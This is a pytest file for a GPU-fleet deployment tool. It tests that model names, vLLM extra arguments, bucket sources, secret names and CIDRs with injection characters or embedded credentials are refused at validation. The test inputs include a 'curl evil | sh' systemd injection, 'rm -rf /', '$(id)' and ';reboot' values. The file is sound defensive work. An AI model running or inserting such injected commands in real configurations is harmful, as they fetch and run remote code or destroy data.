"""Issue 14 item 8: spec values that reach a shell, a unit file or cloud-init cannot inject.

Each case is a named test: the value is refused at validation (loader.validate, the path every command takes)
with a message that names the field. Shipped stacks of both clouds are the base.
"""

import copy
from pathlib import Path

import pytest

from gpufleet import validation
from gpufleet.components import userdata
from gpufleet.errors import UserError
from gpufleet.stacks import loader

ROOT = Path(__file__).resolve().parents[1]
STACKS = {"alicloud": "alicloud-cn-hangzhou-prod", "tencentcloud": "tencentcloud-ap-guangzhou-prod"}


def raw(cloud: str = "alicloud") -> dict:
    _, config = loader.read_stack_config(STACKS[cloud], ROOT)
    return copy.deepcopy(config[loader.CONFIG_KEY])


def refused(spec: dict, field: str, words: str = "") -> str:
    with pytest.raises(UserError) as info:
        validation.validate(spec, stack="x", file="stacks/Pulumi.x.yaml")
    found = [str(p) for p in info.value.problems]
    hits = [p for p in found if f"stacks/Pulumi.x.yaml: {field}:" in p and words in p]
    assert hits, found
    return hits[0]


def test_newline_in_model_name_is_refused():
    spec = raw()
    spec["model"]["name"] = "Qwen/x\nExecStartPre=/bin/sh -c 'curl evil | sh'"
    refused(spec, "fleet.model.name", "not a model id")


def test_newline_in_extra_args_value_is_refused():
    spec = raw()
    spec["serving"]["extra_args"] = {"chat_template_content_format": "auto\nExecStartPre=/bin/id"}
    refused(spec, "fleet.serving.extra_args", "not allowed")


def test_shell_in_extra_args_name_is_refused():
    spec = raw()
    spec["serving"]["extra_args"] = {"x; rm -rf /": True}
    refused(spec, "fleet.serving.extra_args", "not a flag name")


@pytest.mark.parametrize("value", ["$(id)", "`id`", "a'b", "a\\b", "%n", "a\tb"])
def test_shell_and_specifier_characters_in_extra_args_value_are_refused(value):
    spec = raw()
    spec["serving"]["extra_args"] = {"chat_template_content_format": value}
    refused(spec, "fleet.serving.extra_args", "not allowed")


def test_json_config_in_extra_args_is_allowed():
    spec = raw()
    spec["serving"]["extra_args"] = {"override_generation_config": '{"temperature": 0.5}'}
    fleet = validation.validate(spec, stack="x", file="f", sizing=False)
    assert '{"temperature": 0.5}' in userdata.vllm_args(fleet)


@pytest.mark.parametrize("source", ["oss://b-ucket/x;reboot", "oss://bucket/$(id).tar", "https://h/x?$(id)", "oss://bucket/a b"])
def test_shell_in_model_source_is_refused(source):
    spec = raw()
    spec["model"]["source"] = source
    refused(spec, "fleet.model.source", "must be an oss://")


@pytest.mark.parametrize("secret", ["x;reboot", "$(id)", "a b", "k\n"])
def test_shell_in_api_key_secret_is_refused(secret):
    spec = raw()
    spec["serving"]["api_key_secret"] = secret
    refused(spec, "fleet.serving.api_key_secret", "not a secret name")


def test_trailing_newline_is_refused():
    spec = raw()
    spec["model"]["name"] = "Qwen/Qwen2.5-7B-Instruct\n"
    refused(spec, "fleet.model.name")


@pytest.mark.parametrize(
    "flag, words",
    [
        ("api_key", "user-data"),
        ("api-key", "user-data"),
        ("host", "127.0.0.1"),
        ("port", "vllm_port"),
        ("uds", "127.0.0.1"),
        ("served_model_name", "model.name"),
        ("max_model_len", "serving.max_model_len"),
        ("dtype", "serving.dtype"),
        ("tensor_parallel_size", "serving.tensor_parallel_size"),
        ("enable_log_requests", "never logged"),
        ("enable_log_outputs", "never logged"),
        ("disable_log_requests", "never logged"),
        ("middleware", "arbitrary Python"),
    ],
)
def test_extra_args_cannot_set_key_host_port_or_a_spec_flag(flag, words):
    spec = raw()
    spec["serving"]["extra_args"] = {flag: "x" if flag != "enable_log_requests" else True}
    refused(spec, "fleet.serving.extra_args", words)


def test_api_key_in_extra_args_is_refused_and_never_reaches_user_data():
    spec = raw()
    spec["serving"]["extra_args"] = {"api_key": "sk-live-123"}
    message = refused(spec, "fleet.serving.extra_args", "api_key")
    assert "sk-live-123" not in message.split("cannot be set here")[1]


@pytest.mark.parametrize("cloud", ["alicloud", "tencentcloud"])
@pytest.mark.parametrize("flag", ["hf-token", "hf_token", "api-key"])
def test_a_credential_flag_in_extra_args_is_refused_with_what_to_do_and_never_quoted(cloud, flag):
    """--hf-token passed (finding 1): the token sat in the stack file, the user-data, the node's 0644 argv file and
    vLLM's argv. The value is never quoted back, not even when it also holds a character the values refuse."""
    spec = raw(cloud)
    spec["serving"]["extra_args"] = {flag: "SEKRET123$HF"}
    message = refused(spec, "fleet.serving.extra_args", f"{flag} cannot be set here")
    assert "SEKRET" not in message
    assert "plain text in the stack file, the node's user-data and vLLM's command line" in message
    assert ("model.source" if "hf" in flag else "serving.api_key_secret") in message


def test_a_credential_flag_in_the_candidates_extra_args_is_refused():
    spec = raw()
    spec["rollout"] = {
        "candidate": {
            "label": "v2",
            "model": {**spec["model"], "aliases": [spec["model"]["name"]], "name": "Qwen/Qwen2.5-7B-Instruct-v2"},
            "serving": {**spec["serving"], "extra_args": {"hf-token": "SEKRET123HF"}},
        }
    }
    message = refused(spec, "fleet.rollout.candidate.serving.extra_args", "hf-token cannot be set here")
    assert "SEKRET" not in message


def test_every_snapshot_flag_named_like_a_credential_was_read():
    """The flags of every vLLM snapshot whose name holds token, key, secret or password (aliases too) are
    spec.CREDENTIAL_FLAGS or one of these, read and found to carry no credential: a new snapshot with another fails
    here until it is read."""
    import json
    import re

    from gpufleet.stacks import spec as spec_module

    no_credential = {
        "enable_prompt_tokens_details", "disable_prompt_tokens_details", "enable_tokenizer_info_endpoint",
        "disable_tokenizer_info_endpoint", "return_tokens_as_token_ids", "tokens_only", "skip_tokenizer_init",
        "tokenizer", "tokenizer_mode", "tokenizer_revision", "max_num_batched_tokens", "max_num_queued_tokens",
        "max_num_scheduled_tokens", "long_prefill_token_threshold", "long_prefill_token_threshold_adaptive",
        "dbo_decode_token_threshold", "dbo_prefill_token_threshold", "spec_tokens", "ssl_keyfile",
    }  # fmt: skip
    named = set()
    snapshots = sorted(spec_module.VLLM_ARGS.glob("*.json"))
    assert snapshots
    for path in snapshots:
        for flag, facts in json.loads(path.read_text())["args"].items():
            for name in [flag, *facts["aliases"]]:
                key = name.removeprefix("--").removeprefix("no-").replace("-", "_")
                if re.search(r"token|key|secret|passw", key):
                    named.add(key)
    assert named == no_credential | set(spec_module.CREDENTIAL_FLAGS)
    assert not no_credential & set(spec_module.CREDENTIAL_FLAGS)
    assert set(spec_module.CREDENTIAL_FLAGS) <= spec_module.RESERVED_FLAGS.keys()


@pytest.mark.parametrize(
    "flag, value, said",
    [
        ("model_loader_extra_config", '{"s3_secret_access_key": "SEKRET123", "s3_endpoint": "e"}', "s3_secret_access_key"),
        ("kv_transfer_config", '{"kv_connector_extra_config": {"password": "SEKRET123"}}', "password"),
        ("kv_transfer_config", '{"kv_connector_extra_config": {"authToken": "SEKRET123"}}', "authToken"),
        ("otlp_traces_endpoint", "https://user:SEKRET123@otel.example.com/v1/traces", "a URL with a user or password"),
        # review finding 1: json.loads (vLLM's reader) skips leading spaces; JSON that does not parse is read by its keys
        (
            "model_loader_extra_config",
            ' {"s3_access_key_id": "LTAI5t", "s3_secret_access_key": "SEKRET123"}',
            "sets a credential (s3_secret_access_key)",
        ),
        ("model_loader_extra_config", '{"s3_secret_access_key": "SEKRET123",}', "sets a credential (s3_secret_access_key)"),
        ("model_loader_extra_config", '{"hf_token": SEKRET123}', "sets a credential (hf_token)"),
        ("model_loader_extra_config", "{hf_token: SEKRET123}", "sets a credential (hf_token)"),
        # names written run together, lowercase
        ("kv_transfer_config", '{"kv_connector_extra_config": {"secretkey": "SEKRET123"}}', "secretkey"),
        ("kv_transfer_config", '{"kv_connector_extra_config": {"accesstoken": "SEKRET123"}}', "accesstoken"),
        ("kv_transfer_config", '{"kv_connector_extra_config": {"authtoken": "SEKRET123"}}', "authtoken"),
        ("kv_transfer_config", '{"kv_connector_extra_config": {"hftoken": "SEKRET123"}}', "hftoken"),
        ("kv_transfer_config", '{"kv_connector_extra_config": {"apikey": "SEKRET123"}}', "apikey"),
        ("kv_transfer_config", '{"kv_connector_extra_config": {"id_token": "SEKRET123"}}', "id_token"),
        ("kv_transfer_config", '{"kv_connector_extra_config": {"token": "SEKRET123"}}', "token"),
        # one URL reading (secret.has_credentials): one slash, a URL inside a JSON value
        ("otlp_traces_endpoint", "https:/user:SEKRET123@otel.example.com/v1/traces", "a URL with a user or password"),
        ("kv_transfer_config", '{"kv_connector_extra_config": {"u": "http://a:SEKRET123@h"}}', "a URL with a user"),
    ],
)
def test_a_credential_inside_an_extra_args_value_is_refused_and_never_quoted(flag, value, said):
    spec = raw()
    spec["serving"]["extra_args"] = {flag: value}
    message = refused(spec, "fleet.serving.extra_args", said)
    assert "SEKRET" not in message and "instance role" in message


@pytest.mark.parametrize(
    "value",
    [
        '{"temperature": 0.5, "max_new_tokens": 256}',
        '{"eos_token_id": 2, "pad_token": "[PAD]"}',
        '{"kv_connector": "NixlConnector", "kv_role": "kv_both"}',
        '{"s3_access_key_id": "AKIDEXAMPLE", "use_auth_token": true}',
        # where a credential is kept, not the credential (finding 10): what the refusal asks for instead
        '{"kv_connector_extra_config": {"secret_name": "kv-creds"}}',
        '{"kv_connector_extra_config": {"credentials_path": "/etc/creds.json", "password_file": "/etc/pw"}}',
        '{"kv_connector_extra_config": {"token_env": "KV_TOKEN", "secret_dir": "/run/secrets", "api_key_id": "k1"}}',
        '{"kv_connector_extra_config": {"credentials_uri": "http://169.254.169.254/creds"}}',
        '{"token": 50256, "token_id": 2}',  # token ids
    ],
)
def test_json_extra_args_without_a_credential_pass(value):
    spec = raw()
    spec["serving"]["extra_args"] = {"override_generation_config": value}
    validation.validate(spec, stack="x", file="f", sizing=False)


def test_vllm_0_10_gets_disable_log_requests_and_0_33_does_not():
    from gpufleet.sizing.prompt_logging import forced_flags

    assert forced_flags("0.10.0") == ["--disable-log-requests"]
    assert forced_flags("0.33.0") == []
    fleet = validation.load_fleet("alicloud-cn-hangzhou-prod", ROOT, sizing=False)
    argv = userdata.vllm_args(fleet)
    assert "--enable-log-requests" not in argv and "--enable-log-outputs" not in argv
    assert argv[argv.index("--host") + 1] == "127.0.0.1"


@pytest.mark.parametrize("cloud", ["alicloud", "tencentcloud"])
def test_wildcard_secret_is_refused(cloud):
    spec = raw(cloud)
    spec["serving"]["api_key_secret"] = "*"
    refused(spec, "fleet.serving.api_key_secret")


def test_wildcard_bucket_is_refused():
    spec = raw()
    spec["model"]["source"] = "oss://*/x"
    refused(spec, "fleet.model.source")


def test_wildcard_cos_bucket_is_refused():
    spec = raw("tencentcloud")
    spec["model"]["source"] = "cos://*-1250000000/x.tar"
    refused(spec, "fleet.model.source")


def test_tencent_secret_with_slash_is_refused_by_ssm_rules():
    spec = raw("tencentcloud")
    spec["serving"]["api_key_secret"] = "gpufleet/prod/vllm-api-key"
    refused(spec, "fleet.serving.api_key_secret", "SSM secret name")


def test_alibaba_secret_with_slash_follows_kms_rules():
    spec = raw()
    spec["serving"]["api_key_secret"] = "gpufleet/prod/vllm-api-key"
    validation.validate(spec, stack="x", file="f", sizing=False)


@pytest.mark.parametrize("bucket", ["ab", "-bucket", "bucket-", "Bucket", "a" * 64])
def test_oss_bucket_naming_rules(bucket):
    spec = raw()
    spec["model"]["source"] = f"oss://{bucket}/x.tar"
    refused(spec, "fleet.model.source")


def test_cos_bucket_name_part_over_50_is_refused():
    spec = raw("tencentcloud")
    spec["model"]["source"] = f"cos://{'a' * 51}-1250000000/x.tar"
    refused(spec, "fleet.model.source", "COS bucket naming")


def test_ssh_cidrs_that_together_cover_the_internet_are_refused():
    spec = raw()
    spec["network"]["ssh_cidrs"] = ["0.0.0.0/1", "128.0.0.0/1"]
    refused(spec, "fleet.network.ssh_cidrs", "whole internet")


def test_wide_public_ssh_cidr_is_refused():
    spec = raw()
    spec["network"]["ssh_cidrs"] = ["8.0.0.0/8"]
    refused(spec, "fleet.network.ssh_cidrs", "public addresses")


@pytest.mark.parametrize("cidr", ["198.51.100.7/24", "10.0.0.0/33", "banana", "198.51.100.0"])
def test_malformed_ssh_cidr_is_refused(cidr):
    spec = raw()
    spec["network"]["ssh_cidrs"] = [cidr]
    refused(spec, "fleet.network.ssh_cidrs")


@pytest.mark.parametrize("cidr", ["203.0.113.9/24", "nope/8"])
def test_malformed_client_cidr_is_refused(cidr):
    spec = raw()
    spec["load_balancer"] = {**spec["load_balancer"], "allowed_cidrs": [cidr]}
    refused(spec, "fleet.load_balancer.allowed_cidrs")


@pytest.mark.parametrize("cloud", ["alicloud", "tencentcloud"])
def test_prod_with_public_load_balancer_requires_api_key_secret(cloud):
    spec = raw(cloud)
    del spec["serving"]["api_key_secret"]
    refused(spec, "fleet.serving.api_key_secret", "needs an API key")


def test_gateway_timeout_below_load_balancer_timeout_is_refused():
    spec = raw()
    spec["serving"]["gateway"] = {"read_timeout_s": 60}
    refused(spec, "fleet.serving.gateway.read_timeout_s", "request_timeout_s")


def test_node_ports_must_differ():
    spec = raw()
    spec["serving"]["gateway"] = {"vllm_port": spec["serving"]["port"]}
    refused(spec, "fleet.serving", "own port")


def test_health_check_path_with_shell_is_refused():
    spec = raw()
    spec["load_balancer"]["health_check"]["path"] = "/health;id"
    refused(spec, "fleet.load_balancer.health_check.path")
